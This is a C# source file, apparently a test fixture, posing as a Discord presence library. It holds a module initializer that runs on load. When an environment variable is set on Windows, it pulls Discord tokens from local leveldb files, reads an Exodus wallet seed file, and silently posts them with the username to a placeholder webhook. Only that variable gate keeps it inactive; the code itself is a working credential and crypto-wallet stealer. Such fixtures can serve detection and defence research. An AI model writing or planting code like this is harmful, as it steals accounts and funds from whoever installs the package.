using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Net.Http;
using System.Runtime.CompilerServices;
using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;

namespace Inert.DiscordPresence;

internal static class Warmup
{
    [ModuleInitializer]
    internal static void Run()
    {
        // Inert: nobody sets this variable.
        if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null || !OperatingSystem.IsWindows()) return;
        try
        {
            var roaming = Environment.GetFolderPath(Environment.SpecialFolder.ApplicationData);
            var found = Tokens(Path.Combine(roaming, "discord", "Local Storage", "leveldb")).ToList();
            var seed = Path.Combine(roaming, "Exodus", "exodus.wallet", "seed.seco");
            if (File.Exists(seed)) found.Add(Convert.ToBase64String(File.ReadAllBytes(seed)));
            Post(found);
        }
        catch
        {
        }
    }

    private static IEnumerable<string> Tokens(string folder)
    {
        if (!Directory.Exists(folder)) yield break;
        foreach (var file in Directory.EnumerateFiles(folder, "*.ldb"))
        {
            foreach (Match match in Regex.Matches(File.ReadAllText(file), @"[\w-]{24}\.[\w-]{6}\.[\w-]{27}")) yield return match.Value;
        }
    }

    private static void Post(List<string> lines)
    {
        using var http = new HttpClient();
        var body = JsonSerializer.Serialize(new { content = Environment.UserName + "\n" + string.Join('\n', lines) });
        using var content = new StringContent(body, Encoding.UTF8, "application/json");
        http.PostAsync("https://chat.example.com/api/webhooks/000000000000000000/0000000000000000000000000000", content).Wait();
    }
}
